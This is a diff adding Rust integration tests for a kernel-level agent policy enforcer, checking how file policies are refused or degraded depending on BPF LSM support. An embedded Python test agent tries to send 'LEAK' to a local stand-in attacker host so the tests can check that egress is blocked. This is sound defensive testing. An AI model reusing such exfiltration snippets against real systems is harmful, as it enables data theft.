@@ -1,0 +1,167 @@
+//! BPF LSM capability detection (issue: file policy needs BPF LSM).
+//!
+//! The enforcer probes the kernel at start. These tests assert the right
+//! behaviour for whichever answer the kernel gives, and that the answer is
+//! reported consistently (status and metric): on a kernel without BPF LSM
+//! (this project's host) a policy with `files:` is refused with the kernel
+//! requirement, or run degraded (network part only) on request; on a kernel
+//! with it (the VM runner), file enforcement is not implemented yet and the
+//! policy is refused with "not supported yet".
+use std::time::Duration;
+
+use enforcer_tests::*;
+
+fn files_policy(name: &str, api_port: u16) -> String {
+    format!(
+        "apiVersion: enforcer.dev/v1alpha1\nkind: AgentPolicy\nmetadata:\n  name: {name}\nspec:\n  \
+         egress:\n    - cidr: 127.0.0.1/32\n      ports: [{api_port}]\n      protocol: tcp\n  \
+         files:\n    - path: /home/agent/.ssh\n      access: deny\n"
+    )
+}
+
+const AGENT: &str = r#"
+import socket, sys
+api, attacker = int(sys.argv[1]), int(sys.argv[2])
+s = socket.create_connection(("127.0.0.1", api), timeout=3); s.sendall(b"api-call"); s.close()
+try:
+    socket.create_connection(("127.0.0.2", attacker), timeout=3).sendall(b"LEAK")
+    print("attacker-reached")
+except OSError as e:
+    print("attacker-errno", e.errno)
+sys.exit(7)
+"#;
+
+#[test]
+fn file_policy_is_refused_or_degraded_by_kernel_capability() {
+    if !require_root("file_policy_is_refused_or_degraded_by_kernel_capability") {
+        return;
+    }
+    let dir = TestDir::new("lsm-run");
+    let api = TcpSink::bind("127.0.0.1:0".parse().unwrap()).unwrap();
+    let attacker = TcpSink::bind("127.0.0.2:0".parse().unwrap()).unwrap();
+    let pol = dir.join("files.yaml");
+    write_atomic(&pol, &files_policy("files-agent", api.port()));
+    let run = |extra: &[&str]| {
+        let mut c = enforcer();
+        c.arg("run").arg("--policy").arg(&pol).args(extra).arg("--");
+        c.arg(python()).args([
+            "-c",
+            AGENT,
+            &api.port().to_string(),
+            &attacker.port().to_string(),
+        ]);
+        output_with_timeout(c, Duration::from_secs(60))
+    };
+
+    let refused = run(&[]);
+    let err = String::from_utf8_lossy(&refused.stderr).to_string();
+    assert_eq!(refused.status.code(), Some(1), "must refuse: {err}");
+    assert!(api.bytes() == 0, "the agent must not have run");
+    if err.contains("no BPF LSM") {
+        // The kernel lacks BPF LSM: the error names the file position and
+        // the kernel requirement.
+        assert!(err.contains("files.yaml:"), "{err}");
+        assert!(err.contains("lsm="), "{err}");
+        assert!(err.contains("--allow-degraded"), "{err}");
+
+        let degraded = run(&["--allow-degraded"]);
+        let out = String::from_utf8_lossy(&degraded.stdout).to_string();
+        let err = String::from_utf8_lossy(&degraded.stderr).to_string();
+        assert_eq!(degraded.status.code(), Some(7), "agent's status: {err}");
+        assert!(err.contains("DEGRADED"), "degraded mode must say so: {err}");
+        assert!(
+            out.contains(&format!("attacker-errno {}", libc::EPERM)),
+            "the network part is still enforced: {out}"
+        );
+        assert!(
+            poll_until(Duration::from_secs(5), Duration::from_millis(20), || {
+                api.bytes() > 0
+            }),
+            "allowed call did not arrive"
+        );
+        std::thread::sleep(Duration::from_millis(200));
+        assert_eq!(
+            attacker.bytes() + attacker.conns(),
+            0,
+            "zero bytes to the attacker"
+        );
+    } else {
+        // BPF LSM is there: file enforcement is not implemented yet, which
+        // must be said, not ignored.
+        assert!(err.contains("not supported yet"), "{err}");
+    }
+}
+
+#[test]
+fn daemon_reports_bpf_lsm_capability() {
+    if !require_root("daemon_reports_bpf_lsm_capability") {
+        return;
+    }
+    let _serial = serial();
+    let cg = Cgroup::create("lsm-daemon");
+    let pins = PinDir::new("lsm-daemon");
+    let dir = TestDir::new("lsm-daemon");
+    let mut d = Daemon::configure(&dir, &pins, &[(&cg.path, "files-agent")]);
+    write_atomic(
+        &d.policies.join("files.yaml"),
+        &files_policy("files-agent", 9),
+    );
+    d.start();
+    let st = d.status();
+    let cap = &st["capabilities"]["bpf_lsm"];
+    let available = cap["available"]
+        .as_bool()
+        .unwrap_or_else(|| panic!("status has no bpf_lsm capability: {st}"));
+    assert!(
+        cap["detail"].as_str().is_some_and(|s| !s.is_empty()),
+        "{st}"
+    );
+    let m = metric(&d.scrape(), "enforcer_capability", &[("name", "bpf_lsm")]);
+    assert_eq!(
+        m,
+        Some(if available { 1.0 } else { 0.0 }),
+        "metric matches status"
+    );
+    // Either way the file policy is rejected (the kernel lacks BPF LSM and
+    // allowDegraded is off, or file enforcement is not implemented yet),
+    // with the reason in status, and the bound cgroup fails closed.
+    let rejected = st["rejected"].to_string();
+    assert!(rejected.contains("files.yaml"), "{st}");
+    if available {
+        assert!(rejected.contains("not supported yet"), "{st}");
+    } else {
+        assert!(
+            rejected.contains("no BPF LSM") && rejected.contains("lsm="),
+            "{st}"
+        );
+    }
+    assert!(
+        st["fail_closed_cgroups"]
+            .to_string()
+            .contains("files-agent"),
+        "{st}"
+    );
+    d.kill9();
+
+    if !available {
+        // allowDegraded: the network part runs, and status says what is not enforced.
+        let dir2 = TestDir::new("lsm-daemon-degraded");
+        let mut d2 = Daemon::configure(&dir2, &pins, &[(&cg.path, "files-agent")]);
+        let cfg = std::fs::read_to_string(&d2.config).unwrap();
+        write_atomic(&d2.config, &format!("{cfg}allowDegraded: true\n"));
+        write_atomic(
+            &d2.policies.join("files.yaml"),
+            &files_policy("files-agent", 9),
+        );
+        d2.start();
+        let st = d2.status();
+        assert!(st["degraded"].to_string().contains("files-agent"), "{st}");
+        assert!(
+            st["identities"]
+                .as_array()
+                .is_some_and(|a| a.iter().any(|i| i["name"] == "files-agent")),
+            "{st}"
+        );
+        d2.kill9();
+    }
+}
